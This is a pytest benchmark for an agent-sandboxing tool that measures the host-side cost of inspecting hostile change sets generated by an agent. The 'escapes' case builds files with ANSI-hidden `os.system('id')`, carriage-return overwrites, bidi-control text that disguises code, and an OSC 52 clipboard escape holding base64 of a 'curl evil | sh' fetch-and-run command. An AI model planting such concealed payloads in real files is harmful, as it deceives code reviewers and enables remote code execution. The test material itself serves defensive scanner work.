"""Benchmark (prints, never fails on cost): what inspecting a hostile change set costs the host,
against an honest change set of the same file count made the same way, measured in the same run.

Each measured run is one `python -m airlockd --workspace WS --no-daemon --json run --agent bot
--wait SCRIPT` process: staging, the container, then inspection, the secret and hidden-character
scans, classification, store and audit, all in that process. Its CPU (user + sys) and peak RSS come
from `os.wait4` on its pid, called by a small probe process that forks it: a process's ru_maxrss
starts at the high-water mark of the address space it was exec'd from (Linux keeps it across
exec), so a CLI forked from pytest would never read below pytest's own RSS; the probe's floor is
~5 MiB. The container's own CPU is in its cgroup, not in the figure (host side only). Nothing is
subtracted: the honest run stages the same workspace and starts the same container, so only what
the agent left differs. Per case: one untimed warm-up of each, then ROUNDS measured runs
alternating honest / hostile, each in a fresh workspace and state directory.
Reported: min and median of each, ratios hostile / honest of mins and of medians (target <= 3).

Change sets (N files, AIRLOCK_BENCH_HOSTILE_N, default 2,000; honest: N ~1 KiB Python modules in
4 directories): flood (N empty files, one directory), sparse (20 of the N are 1 TiB sparse files),
deep (N files along a chain of 90 new directories), escapes (ANSI / OSC escapes, bidi controls,
bare CRs), slow-to-scan (one long line of near-miss secret prefixes), over the bound (10 x N files
with changed_files = N: ends limit_exceeded), output flood (1 MiB on stdout with no newline, with
secret-like prefixes, plus N honest files).

    AIRLOCK_REQUIRE_DOCKER=1 .venv/bin/pytest tests/bench/test_bench_hostile.py -s -q
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import statistics
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.usefixtures("_image")]

N = int(os.environ.get("AIRLOCK_BENCH_HOSTILE_N", "2000"))
ROUNDS = 3
TARGET = 3.0


def _policy(changed_files: int | None = None) -> str:
    bound = f"changed_files = {changed_files}\n" if changed_files else ""
    return (
        textwrap.dedent(
            """
        [agents.bot]
        command = ["bash", "-c", "{prompt}"]
        prompt = "argv"
        [agents.bot.limits]
        wall_time_s = 120
        grace_s = 1
        output_bytes = 16_000_000
        workspace_growth_mb = 512
        """
        )
        + bound
    )


# The agents' scripts: Python run in the container (`python3 -c CODE N`). The prompt holds only
# printable text (escapes are written as Python escapes) and no secret: what is hostile is built
# in the container.
_COMMON = r'''
import os, random, string, sys
N = int(sys.argv[1])
def put(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write(text)
def source(i):
    out = f'"""Module {i} of the benchmark."""\n\n'
    j = 0
    while len(out) < 1000:
        out += f"def f{j}(x: int) -> int:\n    return x * {j} + {i}\n\n\n"
        j += 1
    return out
def honest(n):
    for i in range(n):
        put(f"src/pkg{i % 4}/mod{i}.py", source(i))
def near_misses(i, size):
    unit = f"# {i} AKIA" + "QX7Z" + "eyJ" + "." * 12 + "-----BEGIN " + "ghp_" + "a1B2c3"
    unit += "sk-" + "x9Y8" + "AKIA" + "Z" * 9
    return (unit * (size // len(unit) + 1))[:size]
'''
_CASES: dict[str, str] = {
    "honest": "honest(N)",
    "flood": "for i in range(N): put(f'src/flood/f{i}', '')",
    "sparse": textwrap.dedent(
        """
        honest(N - 20)
        for i in range(20):
            put(f"src/sparse/big{i}.bin", "")
            os.truncate(f"src/sparse/big{i}.bin", 1 << 40)
        """
    ),
    "deep": "for i in range(N): put('src/' + 'd/' * (i % 90 + 1) + f'f{i}.py', source(i))",
    "escapes": textwrap.dedent(
        r"""
        def escaped(i):
            unit = (
                f"x{i} = 1\033[8m; import os; os.system('id')\033[0m\n"
                "ok()\revil()\n\033[1A\033[2K"
                "\033]52;c;Y3VybCBldmlsIHwgc2g=\007"
                "access = 'user\u202e \u2066// admin\u2069'\n"
            )
            out = ""
            while len(out.encode()) < 1000:
                out += unit
            return out
        for i in range(N): put(f"src/esc{i % 4}/m{i}.py", escaped(i))
        """
    ),
    "slow-to-scan": "for i in range(N): put(f'src/scan{i % 4}/m{i}.txt', near_misses(i, 1024))",
    "over the bound": "honest(10 * N)",
    "output flood": textwrap.dedent(
        """
        honest(N)
        keys = ["AKIA" + "".join(random.choices(string.ascii_uppercase + string.digits, k=16)) for _ in range(64)]
        text = near_misses(0, 1 << 20)
        step = len(text) // len(keys)
        text = "".join(text[k * step : (k + 1) * step - 24] + " " + keys[k] + " " for k in range(len(keys)))
        sys.stdout.write((text + "x" * (1 << 20))[: 1 << 20])
        sys.stdout.flush()
        """
    ),
}
# case -> (state the run must end in, regular files the proposal must hold)
_EXPECTED: dict[str, tuple[str, int]] = {
    "honest": ("proposed", N),
    "flood": ("proposed", N),
    "sparse": ("proposed", N),
    "deep": ("proposed", N),
    "escapes": ("proposed", N),
    "slow-to-scan": ("proposed", N),
    "over the bound": ("limit_exceeded", 0),
    "output flood": ("proposed", N),
}


def _script(case: str) -> str:
    return f"python3 -c {shlex.quote(_COMMON + _CASES[case])} {N}"


@dataclass(frozen=True)
class Cost:
    cpu_s: float
    rss_mib: float
    state: str
    stager: str


# Forks and execs argv[2:], waits for it, writes "utime stime maxrss_kib" to argv[1], exits as it did.
_PROBE = textwrap.dedent(
    """
    import os, sys
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(sys.argv[2], sys.argv[2:])
        finally:
            os._exit(127)
    _, status, ru = os.wait4(pid, 0)
    with open(sys.argv[1], "w") as fh:
        fh.write(f"{ru.ru_utime} {ru.ru_stime} {ru.ru_maxrss}")
    sys.exit(os.waitstatus_to_exitcode(status))
    """
)


def _unmount_below(root: Path) -> None:
    """The staging mounts a proposed run keeps (capped tmpfs, overlay): deepest first."""
    with open("/proc/self/mounts") as fh:
        points = [line.split()[1].replace("\\040", " ") for line in fh]
    for point in sorted((p for p in points if p.startswith(str(root) + "/")), reverse=True):
        subprocess.run(["umount", "-l", point], check=False, capture_output=True)


def _check(case: str, code: int, run: dict[str, Any], err: str) -> None:
    state, files = _EXPECTED[case]
    assert run.get("state") == state, (case, code, run.get("state"), run.get("error"), err[-2000:])
    assert code == (0 if state == "proposed" else 4), (case, code)
    rules = [f["rule"] for f in run["files"] if (f.get("after") or {}).get("kind") == "file"]
    assert len(rules) == files, (case, len(rules))
    if case == "sparse":  # judged by size, never read
        assert rules.count("invariant:size-cap") == 20, rules
    if case == "escapes":
        assert set(rules) == {"invariant:hidden-characters"}, set(rules)
    if state == "limit_exceeded":
        assert run["limit"]["limit"] == "changed_files" and run["limit"]["allowed"] == N, run["limit"]
    if case == "output flood":
        assert run["output_bytes"] == 1 << 20, run["output_bytes"]


def _measured(root: Path, case: str) -> Cost:
    """One run in a fresh workspace and state directory; the CLI process's own CPU and peak RSS."""
    work = Path(tempfile.mkdtemp(dir=root, prefix="run-"))
    ws, state = work / "ws", work / "state"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("print('hi')\n")
    (ws / "policies.toml").write_text(_policy(N if case == "over the bound" else None))
    cli = [sys.executable, "-m", "airlockd", "--workspace", str(ws), "--no-daemon", "--json"]
    cli += ["run", "--agent", "bot", "--wait", _script(case)]
    env = {**os.environ, "AIRLOCK_STATE_DIR": str(state), "AIRLOCK_DAEMON": "off"}
    try:
        probe = [sys.executable, "-S", "-c", _PROBE, str(work / "usage"), *cli]
        proc = subprocess.run(probe, stdin=subprocess.DEVNULL, capture_output=True, env=env, timeout=600)
        run = json.loads(proc.stdout) if proc.stdout.strip() else {}
        _check(case, proc.returncode, run, proc.stderr.decode(errors="replace"))
        utime, stime, maxrss = (float(x) for x in (work / "usage").read_text().split())
        return Cost(utime + stime, maxrss / 1024, run["state"], run["stager"])
    finally:
        _unmount_below(work)
        shutil.rmtree(work, ignore_errors=True)


@dataclass(frozen=True)
class Row:
    case: str
    hostile: list[Cost]
    honest: list[Cost]

    def figures(self, field: str) -> tuple[float, float, float, float]:
        h = [getattr(c, field) for c in self.hostile]
        b = [getattr(c, field) for c in self.honest]
        return min(h), statistics.median(h), min(b), statistics.median(b)

    def line(self) -> str:
        cells = [f"{self.case:<15}"]
        for field, fmt in (("cpu_s", "6.2f"), ("rss_mib", "6.1f")):
            hmin, hmed, bmin, bmed = self.figures(field)
            ratios = (hmin / bmin, hmed / bmed)
            flag = " !" if max(ratios) > TARGET else "  "
            cells.append(
                f"{hmin:{fmt}} {hmed:{fmt}} / {bmin:{fmt}} {bmed:{fmt}}  {ratios[0]:5.2f} {ratios[1]:5.2f}{flag}"
            )
        cells.append(",".join(sorted({c.state for c in self.hostile})))
        return "   ".join(cells)


def _contend(root: Path, case: str) -> Row:
    _measured(root, "honest")  # untimed warm-up of each
    _measured(root, case)
    hostile, honest = [], []
    for _ in range(ROUNDS):
        honest.append(_measured(root, "honest"))
        hostile.append(_measured(root, case))
    return Row(case, hostile, honest)


@pytest.mark.timeout(7200)
def test_bench_hostile_change_sets_against_honest(tmp_path: Path) -> None:
    rows = [_contend(tmp_path, case) for case in _CASES if case != "honest"]
    stagers = ",".join(sorted({c.stager for r in rows for c in r.hostile + r.honest}))
    print(
        f"\n=== host-side cost of inspecting hostile change sets vs an honest one of {N} files"
        f" (~1 KiB Python modules); `airlockd --no-daemon run --wait` as one process, CPU user+sys and"
        f" peak RSS by wait4; {ROUNDS} runs each after 1 untimed, alternating; fresh workspace and state"
        f" per run; stager {stagers}; target ratio <= {TARGET} (! = over) ==="
    )
    figures, ratios = "   min    med /    min    med", "  min   med"
    print(f"{'':15}   {'CPU s hostile / honest':29}  {'ratio':11}     {'peak RSS MiB hostile / honest':29}  ratio")
    print(f"{'case':15}   {figures}  {ratios}     {figures}  {ratios}     end state")
    for row in rows:
        print(row.line())
